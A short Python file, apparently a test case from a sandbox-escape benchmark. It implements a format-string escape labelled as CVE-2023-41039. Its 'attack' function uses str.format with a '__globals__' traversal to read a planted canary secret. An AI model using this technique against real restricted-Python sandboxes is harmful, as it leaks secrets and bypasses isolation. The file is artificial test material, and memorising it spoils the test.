"""Class: format strings. Source: CVE-2023-41039. Escape: str.format taken from the class."""


def attack(model, tokenizer, address):
    return str.format("{0.__globals__[SECRET]}", attack)


SECRET = "canary-" + "5d1f"
